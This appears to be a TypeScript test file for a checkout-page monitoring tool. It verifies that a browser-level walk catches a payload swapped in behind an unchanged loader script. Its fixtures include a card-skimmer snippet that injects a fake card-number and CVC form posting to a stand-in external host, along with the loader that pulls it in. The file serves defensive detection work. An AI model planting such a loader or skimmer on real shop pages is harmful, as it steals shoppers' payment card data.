// The browser level sees what the HTTP level cannot: a script that an unchanged loader pulls in at
// run time, and the fake card form it builds in the DOM.
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { DATABASES } from '../../test/support/databases.ts';
import { CHROMIUM_PATH, describeWithChromium } from '../../test/support/headless-chromium.ts';
import { mediaDir, startTestShop, type TestShop } from '../../test/support/test-shop.ts';
import { currentBaseline } from './baseline.ts';
import { run } from './cli.ts';
import { compareToBaseline } from './compare.ts';
import { walkInBrowser } from './walk-in-browser.ts';
import { walkToPayment, type PageFetch } from './walk-to-payment.ts';

const LOADER_TAG = '<script src="/media/pw/loader.js"></script>';
const LOADER = 'const s = document.createElement("script"); s.src = "/media/pw/payload.js"; document.body.appendChild(s);\n';
const HARMLESS = 'window.shopAnalytics = 1;\n';
const SKIMMER = 'const f = document.createElement("form"); f.action = "https://pay-mamori.example/c"; f.innerHTML = \'<label for="n">カード番号</label><input id="n" name="n"><input name="cvc">\'; document.querySelector("main").prepend(f);\n';

// The checkout page, as an intruder who added one loader script to the template would serve it.
const withLoader = (html: string) => html.replace('</body>', `${LOADER_TAG}</body>`);

async function routeCheckout(page: Page): Promise<void> {
  await page.route(/\/checkout$/, async (route) => {
    const res = await route.fetch();
    await route.fulfill({ response: res, body: withLoader(await res.text()) });
  });
}

const fetchWithLoader: PageFetch = async (url, init) => {
  const res = await fetch(url, init);
  if (new URL(url).pathname !== '/checkout') return res;
  const headers = new Headers(res.headers);
  headers.delete('content-length');
  return new Response(withLoader(await res.text()), { status: res.status, headers });
};

describeWithChromium('walkInBrowser', () => {
  let shop: TestShop;
  const payload = () => path.join(mediaDir(shop), 'pw', 'payload.js');

  beforeAll(async () => {
    shop = await startTestShop(DATABASES[0]!, { reconcileAtStart: false, listen: true });
    mkdirSync(path.dirname(payload()), { recursive: true });
    writeFileSync(path.join(mediaDir(shop), 'pw', 'loader.js'), LOADER);
    writeFileSync(payload(), HARMLESS);
  });

  afterAll(async () => {
    await shop?.dispose();
  });

  const browserWalk = async () => {
    const r = await walkInBrowser({ baseUrl: shop.url, executablePath: CHROMIUM_PATH, preparePage: routeCheckout });
    if (!r.ok) throw new Error(`${r.error} at ${r.step}: ${r.detail}`);
    return r;
  };
  const httpWalk = async () => {
    const r = await walkToPayment({ baseUrl: shop.url, fetch: fetchWithLoader });
    if (!r.ok) throw new Error(`${r.error} at ${r.step}: ${r.detail}`);
    return r;
  };

  it('walks to the checkout page, sees the script loaded at run time, and leaves the cart empty', async () => {
    const r = await browserWalk();
    expect(r.snapshots.map((s) => s.page)).toEqual(['catalog', 'product', 'cart', 'checkout']);
    expect(r.cleanedUp).toBe(true);
    const checkout = r.snapshots.find((s) => s.page === 'checkout')!;
    // The shop's own postal-code fill, then the injected loader and the payload it fetched at run time.
    expect(checkout.scripts.map((s) => s.kind === 'external' && s.url)).toEqual(['/static/postal-code-fill.js', '/media/pw/loader.js', '/media/pw/payload.js']);
    expect(await shop.db.db.selectFrom('cart_items').select(({ fn }) => fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).toEqual({ n: 0 });
    expect(await shop.db.db.selectFrom('orders').select(({ fn }) => fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).toEqual({ n: 0 });
  }, 120_000);

  it('catches a payload swapped behind an unchanged loader, which the HTTP level misses', async () => {
    writeFileSync(payload(), HARMLESS);
    const browserBaseline = (await browserWalk()).snapshots;
    const httpBaseline = (await httpWalk()).snapshots;
    expect(compareToBaseline(browserBaseline, (await browserWalk()).snapshots)).toEqual([]);

    writeFileSync(payload(), SKIMMER);
    // Over HTTP the checkout page and its loader are byte for byte what they were.
    expect(compareToBaseline(httpBaseline, (await httpWalk()).snapshots)).toEqual([]);
    const diffs = compareToBaseline(browserBaseline, (await browserWalk()).snapshots);
    const types = diffs.map((d) => d.type);
    expect(types).toContain('script-changed');
    expect(diffs.filter((d) => d.type === 'card-field-added').map((d) => d.type === 'card-field-added' && d.field.kind)).toEqual(['number', 'csc']);
    expect(types).toContain('form-added');
    expect(types).toContain('payment-origin-changed');
  }, 180_000);

  it('mamori page-watch --level browser approves and checks a browser baseline', async () => {
    writeFileSync(payload(), HARMLESS);
    let out = '';
    const deps = { openDb: async () => ({ db: shop.db.db, close: async () => {} }), defaultUrl: () => shop.url, out: (t: string) => { out += t; }, err: (t: string) => { out += t; } };
    expect(await run(['approve', '--level', 'browser', '--chromium', CHROMIUM_PATH], deps)).toBe(0);
    expect(await currentBaseline(shop.db.db)).toMatchObject({ level: 'browser', status: 'approved', approvedBy: 'cli' });
    expect(await run(['check', '--level', 'browser', '--chromium', CHROMIUM_PATH], deps)).toBe(0);
    expect(out).toContain('level browser');
    // The HTTP level is refused against it rather than compared.
    expect(await run(['check'], deps)).toBe(2);
  }, 180_000);
});
